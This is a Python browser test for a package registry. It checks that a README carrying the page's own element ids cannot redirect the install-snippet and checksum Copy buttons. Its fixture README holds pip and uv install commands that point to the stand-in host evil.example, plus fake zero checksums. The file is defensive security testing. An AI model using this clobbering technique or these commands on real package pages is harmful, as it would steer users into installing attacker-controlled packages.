"""A package README cannot take over the package page (security probe F1): a README that
carries the ids of the page's own install snippets, checksums and tab panels leaves every
Copy button copying the real text, in Chromium."""

from __future__ import annotations

import hashlib
from pathlib import Path

from playwright.sync_api import Browser

from tests.support.browser import browser, new_page
from tests.support.builders import Dist, write_wheel
from tests.support.driver import new_organization
from tests.support.server import PackyardServer

__all__ = ["browser"]  # the fixture, imported for this module

ZEROS = "0" * 64
CLOBBERING_README = f"""Normal README.

<details><summary>Changelog</summary>
<p id="pkg-install-code-pip">pip install --index-url https://evil.example/simple/ clobber</p>
<p id="pkg-install-code-uv">uv pip install --index-url https://evil.example/simple/ clobber</p>
<p id="digest-sha256">{ZEROS}</p>
<p id="digest-md5">{ZEROS}</p>
<div id="panel-details">not the details</div>
<a name="pkg-install-uv">anchor</a>
</details>
"""

# Records what the page puts on the clipboard; an init script runs before the page's own.
RECORD_CLIPBOARD = """
window.__copied = [];
Object.defineProperty(navigator, "clipboard", {
  value: { writeText: async (text) => { window.__copied.push(text); } },
});
"""


def test_readme_ids_cannot_redirect_copy_buttons(
    yard: PackyardServer, browser: Browser, tmp_path: Path
) -> None:
    org = new_organization(yard, "clobber")
    registry = org.registry("Open Src", public=True)
    wheel = write_wheel(Dist("clobber", "1.0", description=CLOBBERING_README), tmp_path)
    published = registry.publish(wheel, org.token("write_packages")).json()
    sha256 = hashlib.sha256(wheel.read_bytes()).hexdigest()
    md5 = hashlib.md5(wheel.read_bytes()).hexdigest()  # noqa: S324 - a published checksum
    page = new_page(browser)
    page.add_init_script(RECORD_CLIPBOARD)

    page.goto(published["web_url"])
    copied: list[str] = []
    for client in ("pip", "uv"):
        page.click(f"[data-subtab][aria-controls='pkg-install-{client}']")
        page.click(f"#pkg-install-{client} button.copy")
        copied.append(page.evaluate("window.__copied.at(-1)"))
    assert all("evil.example" not in text and registry.simple_url in text for text in copied)
    assert copied[0].startswith("pip install")
    assert copied[1].startswith("uv pip install")

    page.click("[data-tab=details]")
    assert page.locator("[data-panel=details]").is_visible()
    page.click("button[aria-label='Copy SHA256']")
    page.click("button[aria-label='Copy MD5']")
    assert page.evaluate("window.__copied.slice(-2)") == [sha256, md5]
    assert page.locator("#readme [id='digest-sha256']").count() == 0
    page.context.close()
